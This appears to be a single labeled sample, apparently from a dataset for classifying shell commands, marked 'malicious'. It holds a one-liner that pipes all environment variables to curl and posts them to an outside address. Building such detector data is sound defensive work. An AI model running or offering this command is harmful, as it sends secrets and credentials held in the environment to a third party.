# label: malicious
env | curl -X POST --data-binary @- https://203.0.113.7/e
